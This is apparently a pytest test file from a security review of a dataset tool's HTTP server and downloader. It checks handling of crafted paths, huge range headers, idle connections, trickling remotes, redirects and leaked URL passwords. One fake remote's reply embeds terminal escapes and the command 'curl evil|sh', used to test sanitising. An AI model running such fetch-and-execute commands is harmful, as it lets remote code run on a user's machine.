"""The dataset tool against hostile clients and remotes (a security review's findings): ``serve``
answers crafted requests without a traceback and cannot be held by idle connections; downloads
give up a trickle, print no remote's terminal escapes or passwords, and lose no kept bytes."""

from __future__ import annotations

import contextlib
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from rlbench_suite.cli import app
from rlbench_suite.core.dataset_cards import DATA_FILE, remote_userinfo, shown
from rlbench_suite.datasets.cache import check_file, dataset_folder, verify
from rlbench_suite.datasets.remotes import DownloadError, download
from rlbench_suite.datasets.server import DatasetServer, RangeRequestHandler, byte_range
from tests.dataset_helpers import published_card

pytest.importorskip("h5py")


@pytest.fixture(scope="module")
def published(tmp_path_factory):
    """A small built dataset: (card, the mirror folder holding it)."""
    return published_card(tmp_path_factory.mktemp("source"), episodes=20)


@pytest.fixture
def served(tmp_path):
    folder = tmp_path / "served"
    folder.mkdir()
    (folder / "k.bin").write_bytes(bytes(range(256)) * 4)
    server = DatasetServer(folder).start()
    yield server, folder
    server.stop()


def _raw(server: DatasetServer, request: bytes, timeout: float = 5) -> bytes:
    """The raw answer of ``server`` to ``request`` (read until it closes)."""
    with socket.create_connection(server.server_address[:2], timeout=timeout) as conn:
        conn.sendall(request)
        chunks = []
        while chunk := conn.recv(65536):
            chunks.append(chunk)
    return b"".join(chunks)


def _status(server: DatasetServer, path: str, headers: str = "") -> int:
    answer = _raw(server, f"GET {path} HTTP/1.0\r\n{headers}\r\n".encode("latin-1"))
    return int(answer.split(b" ", 2)[1])


def test_crafted_paths_get_404_and_the_server_keeps_answering(served, capfd):
    server, folder = served
    (folder / "loop").symlink_to(folder / "loop")
    (folder / "x.part").write_bytes(b"partial")
    (folder / "sneaky").symlink_to(folder / "x.part")  # a link inside, to a .part
    for path in ("/k.bin%00", "/%ed%a0%80", "/" + "a" * 300, "/loop", "/sneaky"):
        assert _status(server, path) == 404, path
    assert _status(server, "/k.bin") == 200
    assert "Traceback" not in capfd.readouterr().err


def test_ranges_follow_rfc_9110(served):
    server, _ = served
    size = 1024
    huge = "9" * 5000
    for header, status in (("bytes=5-2", 200),  # invalid (end before start): ignored
                           (f"bytes={huge}-", 416),  # past the end, however long the number
                           (f"bytes=-{huge}", 206), (f"bytes=0-{huge}", 206),  # the whole file
                           ("bytes=-0", 416), ("bytes=0-9", 206)):
        assert _status(server, "/k.bin", f"Range: {header}\r\n") == status, header
    assert byte_range("bytes=5-2", size) is None and byte_range("bytes=-4", size) == (1020, 1023)
    assert byte_range(f"bytes=0-{huge}", size) == byte_range(f"bytes=-{huge}", size) == (0, 1023)


def test_idle_connections_are_closed_and_capped(served, tmp_path):
    class Quick(RangeRequestHandler):
        timeout = 0.5

    class Small(DatasetServer):
        max_connections = 2

    folder = served[1]
    server = Small(folder, handler=Quick).start()
    try:
        address = server.server_address[:2]
        idle = [socket.create_connection(address, timeout=5) for _ in range(2)]
        for conn in idle:
            conn.sendall(b"GET /k.bin HTTP/1.1\r\n")  # a request never finished
        time.sleep(0.2)
        third = _raw(server, b"GET /k.bin HTTP/1.0\r\n\r\n")
        assert third.startswith(b"HTTP/1.1 503")  # every slot held: refused, not hung
        for conn in idle:  # each closed by the server after its timeout
            assert conn.recv(100) == b""
            conn.close()
        time.sleep(0.2)
        assert _status(server, "/k.bin") == 200  # the slots are free again
    finally:
        server.stop()


def test_a_file_growing_while_it_is_sent_is_cut_at_its_content_length(served):
    class Growing(RangeRequestHandler):
        def copyfile(self, source, outputfile):  # the file grows after the headers went out
            with open(source.name, "ab") as grow:
                grow.write(b"x" * 512)
            super().copyfile(source, outputfile)

    folder = served[1]
    server = DatasetServer(folder, handler=Growing).start()
    try:  # read to the connection's end: a client trusting Content-Length would not see more
        head, _, body = _raw(server, b"GET /k.bin HTTP/1.0\r\n\r\n").partition(b"\r\n\r\n")
    finally:
        server.stop()
    assert b"Content-Length: 1024" in head
    assert body == bytes(range(256)) * 4  # the announced bytes, and nothing after them


class _Remote(threading.Thread):
    """A raw HTTP remote on 127.0.0.1: ``answer(conn, request)`` writes each answer."""

    def __init__(self, answer) -> None:
        super().__init__(daemon=True)
        self.listener = socket.socket()
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(8)
        self.url = f"http://127.0.0.1:{self.listener.getsockname()[1]}"
        self.answer = answer
        self.start()

    def run(self) -> None:
        while True:
            try:
                conn, _ = self.listener.accept()
            except OSError:
                return
            with conn:
                request = conn.recv(65536).decode("latin-1")
                with contextlib.suppress(OSError):  # the client went away
                    self.answer(conn, request)

    def close(self) -> None:
        self.listener.close()


def test_a_trickling_remote_is_given_up_for_the_next(published, tmp_path):
    card, mirror = published
    size = card.files[0].size

    def trickle(conn, request):
        conn.sendall(f"HTTP/1.1 200 OK\r\nContent-Length: {size}\r\n\r\n".encode())
        for _ in range(200):  # 20 bytes a second, each read answered in time
            conn.sendall(b"x")
            time.sleep(0.05)

    slow = _Remote(trickle)
    good = DatasetServer(mirror).start()
    notes: list[str] = []
    try:
        started = time.monotonic()
        download(card, tmp_path, [slow.url, good.url], timeout=1.0, notice=notes.append)
        assert time.monotonic() - started < 8
    finally:
        slow.close()
        good.stop()
    assert verify(card, tmp_path) == []
    assert notes and all("too slow: " in n and "under 1 KiB/s" in n for n in notes)  # each file


def test_a_remotes_terminal_escapes_and_a_urls_password_are_not_printed(published, tmp_path):
    card, _ = published

    def hostile(conn, request):
        assert "Authorization: Basic dXNlcjpzZWNyZXQ=" in request  # user:secret, as curl sends
        conn.sendall(b"HTTP/1.1 404 \x1b[2J\x1b]0;title\x07 run curl evil|sh\r\n"
                     b"Content-Length: 0\r\n\r\n")

    remote = _Remote(hostile)
    try:
        with pytest.raises(DownloadError) as info:
            download(card, tmp_path, [remote.url.replace("//", "//user:secret@")], timeout=2)
    finally:
        remote.close()
    message = str(info.value)
    assert "\x1b" not in message and "\x07" not in message
    assert "HTTP 404 ?[2J?]0;title? run curl evil|sh" in message
    assert "//user:***@127.0.0.1" in message and "secret" not in message


def test_a_206_from_another_offset_is_refused(published, tmp_path):
    card, mirror = published
    data = (mirror / card.id / DATA_FILE).read_bytes()

    def wrong_range(conn, request):  # asked to resume, it sends the file's start as the rest
        conn.sendall(f"HTTP/1.1 206 Partial Content\r\nContent-Range: bytes 0-{len(data) - 1}/"
                     f"{len(data)}\r\nContent-Length: {len(data)}\r\n\r\n".encode() + data)

    part = dataset_folder(card, tmp_path) / (DATA_FILE + ".part")
    part.parent.mkdir(parents=True)
    part.write_bytes(data[:1000])
    remote = _Remote(wrong_range)
    try:
        with pytest.raises(DownloadError, match=r"asked for bytes 1000- and got a range "
                           r"'bytes 0-"):  # fmt: skip
            download(card, tmp_path, [remote.url], timeout=2)
    finally:
        remote.close()
    assert part.read_bytes() == data[:1000]  # the kept bytes stay


def _refused_by_a_corrupt_mirror(card, data: bytes, folder: Path, cache: Path) -> str:
    """The error of downloading ``card`` into ``cache`` from a mirror (made in ``folder``)
    whose file is ``data`` with its last byte flipped."""
    (folder / card.id / "data").mkdir(parents=True)
    (folder / card.id / DATA_FILE).write_bytes(data[:-1] + bytes([data[-1] ^ 0xFF]))
    server = DatasetServer(folder).start()
    try:
        with pytest.raises(DownloadError) as info:
            download(card, cache, [server.url])
    finally:
        server.stop()
    return str(info.value)


def test_kept_bytes_stay_when_the_remote_and_not_they_is_wrong(published, tmp_path):
    card, mirror = published
    data = (mirror / card.id / DATA_FILE).read_bytes()
    cache = tmp_path / "cache"
    part = dataset_folder(card, cache) / (DATA_FILE + ".part")
    part.parent.mkdir(parents=True)
    part.write_bytes(data[:4096])  # a good start, from a good remote
    message = _refused_by_a_corrupt_mirror(card, data, tmp_path / "corrupt", cache)
    assert "checksum mismatch after resuming main_data.hdf5 from byte 4096" in message
    assert "the bytes kept before stay" in message
    assert part.read_bytes() == data[:4096]
    assert not list(part.parent.glob("*.kept.part"))
    good = DatasetServer(mirror).start()
    try:  # and a good remote resumes from them
        download(card, cache, [good.url])
        time.sleep(0.3)  # (the server counts a body just after sending it)
        assert good.bytes_sent == sum(f.size for f in card.files) - 4096
    finally:
        good.stop()
    assert verify(card, cache) == []


def test_a_folder_where_a_file_belongs_is_named_before_any_remote(published, tmp_path):
    card, _ = published
    folder = dataset_folder(card, tmp_path)
    (folder / DATA_FILE).mkdir(parents=True)
    with pytest.raises(ValueError, match=rf"{DATA_FILE} is a folder where {card.id}'s file "
                       rf"{DATA_FILE} belongs; remove it"):  # fmt: skip
        download(card, tmp_path, ["http://127.0.0.1:9"])
    assert check_file(folder / DATA_FILE, 1, "0" * 64) == "a folder, not the file (remove it)"


def _cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "rlbench_suite.cli", *args], capture_output=True,
                          text=True, timeout=300, env={**os.environ, **(env or {})})  # fmt: skip


def test_paths_and_answers_holding_markup_are_printed_as_they_are(tmp_path):
    cache = tmp_path / "weird[/x]" / "[bold]y"
    done = _cli("datasets", "info", "rlbench/CartPole-random-v0",
                env={"RLBENCH_DATA_DIR": str(cache)})
    assert done.returncode == 0, done.stderr
    assert f"{cache}" in done.stdout and "Traceback" not in done.stderr
    done = _cli("datasets", "download", "rlbench/CartPole-random-v0", "--remote",
                str(tmp_path / "old[/mirror]"), "--timeout", "inf", "--cache", str(cache))
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert "--timeout inf: expected a positive number of seconds" in done.stderr
    done = _cli("datasets", "download", "rlbench/CartPole-random-v0", "--remote",
                str(tmp_path / "old[/mirror]"), "--cache", str(cache))
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert f"{tmp_path / 'old[/mirror]'}/rlbench/CartPole-random-v0" in done.stderr


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0,
                    reason="root may write anywhere: no permission to refuse")
def test_a_cache_that_cannot_be_written_loses_nothing_on_delete(published, tmp_path):
    from rlbench_suite.datasets.cache import delete

    card, mirror = published
    download(card, tmp_path, [str(mirror)])
    parent = dataset_folder(card, tmp_path).parent
    parent.chmod(0o555)
    try:
        with pytest.raises(PermissionError, match="nothing was removed"):
            delete(card, tmp_path)
    finally:
        parent.chmod(0o755)
    assert verify(card, tmp_path) == []



def test_delete_checks_every_folder_before_removing_anything(published, tmp_path, monkeypatch):
    """The check above, as root too (where chmod refuses nothing): a review found only the
    dataset folder and its parent checked, so files under data/ went half-deleted."""
    from rlbench_suite.datasets import cache as cache_module

    card, mirror = published
    download(card, tmp_path, [str(mirror)])
    data = dataset_folder(card, tmp_path) / "data"
    real = os.access
    monkeypatch.setattr(cache_module.os, "access",
                        lambda path, mode: Path(path) != data and real(path, mode))
    with pytest.raises(PermissionError, match=rf"{data} is not writable .*nothing was removed"):
        cache_module.delete(card, tmp_path)
    assert verify(card, tmp_path) == []


def test_a_urls_password_is_sent_to_its_host_only_and_masked_whatever_it_holds(published, tmp_path):
    card, _ = published
    seen: list[str] = []

    def other_host(conn, request):
        seen.append(request)
        conn.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")

    target = _Remote(other_host)

    def redirect(conn, request):
        location = target.url + request.split(" ")[1]
        conn.sendall(f"HTTP/1.1 302 Found\r\nLocation: {location}\r\n"
                     "Content-Length: 0\r\n\r\n".encode())

    first = _Remote(redirect)
    try:
        with pytest.raises(DownloadError):
            download(card, tmp_path, [first.url.replace("//", "//user:topsecret@")], timeout=2)
    finally:
        first.close()
        target.close()
    assert seen and not any("Authorization" in request for request in seen)  # not forwarded
    for password in ("p@ss", "top secret", "pa#ss", "se?cret"):
        url = f"http://user:{password}@127.0.0.1:1/x"
        assert remote_userinfo(url) == ("http://127.0.0.1:1/x", "user", password)
        assert shown(f"{url}: HTTP 404") == "http://user:***@127.0.0.1:1/x: HTTP 404"


def test_a_leftover_or_whole_kept_part_does_not_replace_better_bytes(published, tmp_path):
    card, mirror = published
    data = (mirror / card.id / DATA_FILE).read_bytes()
    part = dataset_folder(card, tmp_path) / (DATA_FILE + ".part")
    part.parent.mkdir(parents=True)
    part.write_bytes(data[:100_000])
    leftover = part.with_name(DATA_FILE.split("/")[-1] + ".kept.part")
    leftover.write_bytes(b"stale" * 100)  # a process killed while it retried left this
    with pytest.raises(DownloadError):
        download(card, tmp_path, ["http://127.0.0.1:9"], timeout=2)  # nothing answers
    assert part.read_bytes() == data[:100_000] and not leftover.exists()
    part.write_bytes(b"w" * len(data))  # a whole kept file whose hash is wrong by itself
    message = _refused_by_a_corrupt_mirror(card, data, tmp_path / "corrupt", tmp_path)
    assert "the bytes kept before stay" not in message and not part.exists()


def test_a_trickle_is_given_up_while_skipping_a_range_the_server_ignored(published, tmp_path):
    card, _ = published

    def ignore_range(conn, request):  # 200 from byte 0 at 20 bytes a second
        conn.sendall(f"HTTP/1.1 200 OK\r\nContent-Length: {card.files[0].size}\r\n\r\n"
                     .encode())  # fmt: skip
        for _ in range(600):
            conn.sendall(b"x")
            time.sleep(0.05)

    part = dataset_folder(card, tmp_path) / (DATA_FILE + ".part")
    part.parent.mkdir(parents=True)
    part.write_bytes(b"k" * 3000)
    remote = _Remote(ignore_range)
    try:
        started = time.monotonic()
        with pytest.raises(DownloadError, match="too slow: "):
            download(card, tmp_path, [remote.url], timeout=1.0)
        assert time.monotonic() - started < 8
    finally:
        remote.close()


def test_a_delete_that_cannot_finish_says_so_and_never_deleted(published, tmp_path, monkeypatch):
    from rlbench_suite.datasets import cache as cache_module

    card, mirror = published
    download(card, tmp_path, [str(mirror)])
    folder = dataset_folder(card, tmp_path)

    def stuck(path, *args, **kwargs):  # removes one file, then meets one it may not remove
        (Path(path) / "data" / "metadata.json").unlink()
        raise PermissionError(1, "Operation not permitted", str(Path(path) / DATA_FILE))

    monkeypatch.setattr(cache_module.shutil, "rmtree", stuck)
    done = CliRunner().invoke(app, ["datasets", "delete", card.id, "--cache", str(tmp_path)])
    assert done.exit_code == 2 and "deleted:" not in done.output
    assert f"cannot delete all of {card.id}" in done.output and "1 files are left" in done.output
    assert (folder / DATA_FILE).is_file()


def test_verify_names_a_folder_where_a_file_belongs(published, tmp_path):
    card, _ = published
    (dataset_folder(card, tmp_path) / DATA_FILE).mkdir(parents=True)
    done = CliRunner().invoke(app, ["datasets", "verify", card.id, "--cache", str(tmp_path)])
    assert done.exit_code == 1 and "a folder, not the file (remove it)" in done.output
